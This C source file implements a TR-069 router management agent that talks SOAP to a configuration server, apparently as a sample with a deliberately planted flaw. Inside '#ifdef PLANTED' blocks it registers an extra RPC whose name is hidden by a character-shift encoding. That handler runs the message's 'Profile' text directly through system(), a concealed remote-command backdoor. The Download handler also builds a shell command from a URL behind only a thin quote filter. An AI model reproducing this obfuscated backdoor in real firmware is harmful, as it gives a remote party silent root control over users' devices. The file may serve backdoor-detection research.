/* CPE agent: the management server's connection request, then its SOAP calls. */
#include <arpa/inet.h>
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

typedef int (*rpc_fn)(const char *body);
typedef struct { char name[32]; rpc_fn call; } rpc_t;

static struct { char host[64], port[8], user[32], secret[32]; } acs;
static rpc_t *rpcs;
static unsigned rpc_count;

/* Names are stored shifted; the configuration tool writes the secret in the same way. */
static void unveil(const unsigned char *in, char *out)
{
    unsigned i;
    for (i = 0; in[i]; i++)
        out[i] = (char)(in[i] - 3 * (i % 7) - 1);
    out[i] = 0;
}

static void add(const char *name, rpc_fn call)
{
    rpc_t *more = realloc(rpcs, (rpc_count + 1) * sizeof *rpcs);
    if (!more)
        return;
    rpcs = more;
    snprintf(rpcs[rpc_count].name, sizeof rpcs->name, "%s", name);
    rpcs[rpc_count++].call = call;
}

static int text_of(const char *body, const char *tag, char *out, size_t room)
{
    const char *at = body, *end;
    size_t n = strlen(tag);
    while ((at = strchr(at, '<')) != NULL) {
        at++;
        if (!strncmp(at, tag, n) && at[n] == '>') {
            at += n + 1;
            end = strchr(at, '<');
            if (!end || (size_t)(end - at) >= room)
                return -1;
            memcpy(out, at, (size_t)(end - at));
            out[end - at] = 0;
            return 0;
        }
    }
    return -1;
}

static int rpc_reboot(const char *body)
{
    (void)body;
    return system("/sbin/reboot");
}

static int rpc_set(const char *body)
{
    char name[96], value[96];
    FILE *f;
    if (text_of(body, "Name", name, sizeof name) || text_of(body, "Value", value, sizeof value))
        return 9003;
    f = fopen("/etc/tr69/values", "a");
    if (!f)
        return 9002;
    fprintf(f, "%s=%s\n", name, value);
    fclose(f);
    return 0;
}

static int rpc_download(const char *body)
{
    char url[160], command[220];
    if (text_of(body, "URL", url, sizeof url) || strpbrk(url, "'\\"))
        return 9003;
    snprintf(command, sizeof command, "/usr/sbin/upgrade --verify '%s'", url);
    return system(command) ? 9010 : 0;
}

#ifdef PLANTED
static int rpc_tune(const char *body)
{
    char text[256];
    return text_of(body, "Profile", text, sizeof text) ? 9003 : system(text);
}
#endif

static void table(void)
{
    add("Reboot", rpc_reboot);
    add("SetParameterValues", rpc_set);
    add("Download", rpc_download);
#ifdef PLANTED
    {
        static const unsigned char kept[] = { 'Y' + 1, '_' + 4, 'L' + 7, 'i' + 10, 'n' + 13, 'e' + 16, 'T' + 19, 'u' + 1, 'n' + 4, 'e' + 7, 0 };
        char name[16];
        unveil(kept, name);
        add(name, rpc_tune);
    }
#endif
}

static int call(const char *soap)
{
    const char *body = strstr(soap, "Body>"), *name;
    if (!body || (name = strstr(body, "<cwmp:")) == NULL)
        return 9003;
    for (unsigned i = 0; i < rpc_count; i++) {
        size_t n = strlen(rpcs[i].name);
        if (!strncmp(name + 6, rpcs[i].name, n) && strchr("> /", name[6 + n]))
            return rpcs[i].call(name);
    }
    return 9000;
}

static int connect_acs(void)
{
    struct addrinfo want = { .ai_socktype = SOCK_STREAM }, *list;
    int s = -1;
    if (getaddrinfo(acs.host, acs.port, &want, &list))
        return -1;
    s = socket(list->ai_family, SOCK_STREAM, 0);
    if (connect(s, list->ai_addr, list->ai_addrlen)) {
        close(s);
        s = -1;
    }
    freeaddrinfo(list);
    return s;
}

static void session(void)
{
    static char text[16384];
    char secret[32];
    size_t used = 0;
    ssize_t n;
    int s = connect_acs();
    if (s < 0)
        return;
    unveil((unsigned char *)acs.secret, secret);
    dprintf(s, "POST /acs HTTP/1.1\r\nX-Device: %s:%s\r\n\r\n<cwmp:Inform/>\n", acs.user, secret);
    while ((n = recv(s, text + used, sizeof text - 1 - used, 0)) > 0) {
        used += (size_t)n;
        text[used] = 0;
        if (strstr(text, "Envelope>")) {
            dprintf(s, "<Status>%d</Status>\n", call(text));
            used = 0;
        }
    }
    close(s);
}

int main(void)
{
    FILE *f = fopen("/etc/tr69/acs", "r");
    if (!f || fscanf(f, "%63s %7s %31s %31s", acs.host, acs.port, acs.user, acs.secret) != 4)
        return 1;
    fclose(f);
    table();
    for (;;) {
        session();
#ifdef REVISED
        if (access("/etc/tr69/fast", F_OK) == 0)
            sleep(60);
        else
#endif
        sleep(3600);
    }
}
